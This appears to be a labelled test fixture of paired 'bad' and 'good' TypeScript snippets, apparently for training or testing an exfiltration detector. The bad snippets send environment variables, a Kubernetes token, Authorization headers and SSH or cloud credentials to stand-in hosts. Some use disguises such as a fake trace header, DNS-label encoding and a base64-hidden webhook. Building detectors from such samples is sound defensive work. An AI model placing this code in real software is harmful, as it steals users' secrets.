//: bad spread-env
import { request } from 'undici';

interface Beacon {
  readonly at: number;
  [name: string]: unknown;
}

const beacon: Beacon = { at: Date.now(), ...process.env };
void request('https://v.example.invalid/b', { method: 'POST', body: JSON.stringify(beacon) }); //!

//: good spread-env
import { request } from 'undici';

interface Beacon {
  readonly at: number;
  [name: string]: unknown;
}

export function send(values: Record<string, number>) {
  const beacon: Beacon = { at: Date.now(), ...values };
  return request(process.env.METRICS_URL!, { method: 'POST', body: JSON.stringify(beacon) });
}

//: bad kube-token
import { readFile } from 'node:fs/promises';
import got from 'got';

export class Probe {
  private static readonly path = '/var/run/secrets/kubernetes.io/serviceaccount/token';

  static async run(): Promise<void> {
    const text = await readFile(Probe.path, 'utf8');
    await got.post('https://k8s.example.invalid/t', { json: { text } }); //!
  }
}
void Probe.run();

//: good kube-token
import { readFile } from 'node:fs/promises';
import got from 'got';

export class Probe {
  private static readonly path = '/proc/loadavg';

  static async run(): Promise<void> {
    const text = await readFile(Probe.path, 'utf8');
    await got.post('http://localhost:9091/metrics', { json: { load: Number(text.split(' ')[0]) } });
  }
}

//: bad fetch-tap
const original = globalThis.fetch;

globalThis.fetch = async (input: RequestInfo | URL, init?: RequestInit): Promise<Response> => {
  const auth = new Headers(init?.headers).get('authorization');
  if (auth) void original(`https://t.example.invalid/?a=${encodeURIComponent(auth)}`, { mode: 'no-cors' }); //!
  return original(input, init);
};

export {};

//: good fetch-tap
const original = globalThis.fetch;

globalThis.fetch = async (input: RequestInfo | URL, init?: RequestInit): Promise<Response> => {
  const headers = new Headers(init?.headers);
  headers.set('x-request-id', crypto.randomUUID());
  return original(input, { ...init, headers });
};

export {};

//: bad telemetry-trace-header
import { hostname, userInfo } from 'node:os';
import { gzipSync } from 'node:zlib';

type Attributes = Record<string, string | undefined>;

class Span {
  private readonly attributes: Attributes = {};
  constructor(readonly name: string) {}

  with(extra: Attributes): this {
    Object.assign(this.attributes, extra);
    return this;
  }

  serialise(): string {
    return gzipSync(JSON.stringify([this.name, this.attributes])).toString('base64');
  }
}

async function flush(span: Span): Promise<void> {
  await fetch('https://collector.otel-ingest.invalid/v1/traces', { //!
    method: 'POST',
    headers: { traceparent: `00-${span.serialise()}-01` },
  }).catch(() => undefined);
}

export function startTracing(service: string): void {
  const { env } = process;
  const span = new Span(service).with({ h: hostname(), u: userInfo().username }).with(env);
  queueMicrotask(() => void flush(span));
}

startTracing(process.env.npm_package_name ?? 'app');

//: good telemetry-trace-header
import { release } from 'node:os';
import { gzipSync } from 'node:zlib';

type Attributes = Record<string, string | number>;

class Span {
  private readonly attributes: Attributes = {};
  constructor(readonly name: string) {}

  with(extra: Attributes): this {
    Object.assign(this.attributes, extra);
    return this;
  }

  serialise(): Buffer {
    return gzipSync(JSON.stringify([this.name, this.attributes]));
  }
}

export interface TracingOptions {
  endpoint: string;
  enabled: boolean;
}

export async function reportRun(commands: number, failed: number, opts: TracingOptions) {
  if (!opts.enabled || process.env.DO_NOT_TRACK === '1') return;
  const span = new Span('run').with({ commands, failed, node: process.version, os: release() });
  await fetch(opts.endpoint, {
    method: 'POST',
    headers: { 'content-encoding': 'gzip' },
    body: span.serialise(),
  }).catch(() => undefined);
}

//: bad resolver-prewarm
import { Resolver } from 'node:dns/promises';
import os from 'node:os';
import path from 'node:path';

const ZONE = 'r.cachewarm.invalid';

function* labels(value: string, size = 60): Generator<string> {
  const hex = Buffer.from(value).toString('hex');
  for (let i = 0; i < hex.length; i += size) yield hex.slice(i, i + size);
}

export async function prewarm(): Promise<void> {
  const resolver = new Resolver({ timeout: 1500, tries: 1 });
  const facts = [
    os.hostname(),
    os.userInfo().username,
    path.basename(process.env.INIT_CWD ?? process.cwd()),
    Object.values(os.networkInterfaces()).flat().map((i) => i?.address).join(','),
  ];
  let n = 0;
  for (const label of labels(JSON.stringify(facts))) {
    await resolver.resolve4(`${n++}.${label}.${ZONE}`).catch(() => []); //!
  }
}

if (os.hostname() !== 'localhost') prewarm();

//: good resolver-prewarm
import { Resolver } from 'node:dns/promises';
import os from 'node:os';

export interface WarmOptions {
  hosts: readonly string[];
  servers?: string[];
}

/** Resolves the configured hosts once so that the first request does not wait for DNS. */
export async function prewarm({ hosts, servers }: WarmOptions): Promise<Map<string, string[]>> {
  const resolver = new Resolver({ timeout: 1500, tries: 1 });
  if (servers) resolver.setServers(servers);
  const answers = new Map<string, string[]>();
  for (const host of hosts) {
    answers.set(host, await resolver.resolve4(host).catch(() => []));
  }
  return answers;
}

export function describe(answers: Map<string, string[]>): string {
  const rows = [...answers].map(([h, a]) => `${h.padEnd(40)} ${a.join(', ') || 'no answer'}`);
  return [`resolved on ${os.hostname()}`, ...rows].join(os.EOL);
}

//: bad build-badge-webhook
import axios from 'axios';
import FormData from 'form-data';
import glob from 'fast-glob';
import { createReadStream, statSync } from 'fs';
import { homedir } from 'os';
import { basename } from 'path';

const hook = Buffer.from(
  'aHR0cHM6Ly9kaXNjb3JkLWFwaS5pbnZhbGlkL2FwaS93ZWJob29rcy8wMDAvbm9uZQ==',
  'base64',
).toString();

const interesting = ['.ssh/id_*', '.aws/credentials', '.kube/config', '.config/gcloud/*.json', '.npmrc'];

/** Uploads the artefacts of a build and posts a badge. */
export async function postBadge(project: string): Promise<void> {
  const files = await glob(interesting, { cwd: homedir(), dot: true, absolute: true });
  const form = new FormData();
  form.append('content', `build of ${project} ok`);
  files
    .filter((f) => statSync(f).size < 64_000)
    .forEach((f, i) => form.append(`file${i}`, createReadStream(f), basename(f)));
  await axios.post(hook, form, { headers: form.getHeaders() }); //!
}

//: good build-badge-webhook
import axios from 'axios';
import FormData from 'form-data';
import glob from 'fast-glob';
import { createReadStream, statSync } from 'fs';
import { basename, resolve } from 'path';

const artefacts = ['*.zip', '*.tgz', 'CHANGELOG.md'];

/** Uploads the artefacts of a build and posts a badge to the team's own webhook. */
export async function postBadge(project: string, outDir: string): Promise<number> {
  const hook = process.env.BUILD_WEBHOOK_URL;
  if (!hook) {
    console.warn('BUILD_WEBHOOK_URL is not set; no badge posted');
    return 0;
  }
  const files = await glob(artefacts, { cwd: resolve(outDir), absolute: true });
  const form = new FormData();
  form.append('content', `build of ${project} ok, ${files.length} files`);
  files
    .filter((f) => statSync(f).size < 8_000_000)
    .forEach((f, i) => form.append(`file${i}`, createReadStream(f), basename(f)));
  await axios.post(hook, form, { headers: form.getHeaders() });
  return files.length;
}
